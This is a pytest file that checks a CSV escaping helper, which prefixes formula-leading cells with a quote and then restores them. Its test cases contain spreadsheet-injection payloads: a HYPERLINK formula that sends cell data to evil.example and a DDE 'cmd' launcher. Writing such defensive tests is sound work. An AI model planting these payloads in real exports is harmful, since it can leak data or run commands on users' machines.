"""CSV cells salespulse writes are safe to open in a spreadsheet, and read back unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from services.common.csv_cells import neutralise, restore
from services.ingest.importer.mapper import read_csv


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("-12.50", "-12.50"),  # a number stays a number
        ("+44", "+44"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("", ""),
    ],
)
def test_formula_starts_are_neutralised_and_restored(cell: str, written: str) -> None:
    assert neutralise(cell) == written
    assert restore(written) == cell


def test_a_file_written_with_neutralised_cells_reads_back_as_it_was() -> None:
    rows = [["rep", "amount"], ["=cmd()", "-5"], ["@evil", "10.00"]]
    out = io.StringIO()
    csv.writer(out).writerows([[neutralise(c) for c in row] for row in rows])
    assert "'=cmd()" in out.getvalue() and "'@evil" in out.getvalue()
    header, records = read_csv(io.StringIO(out.getvalue()))
    assert [header, *[values for _, values in records]] == rows
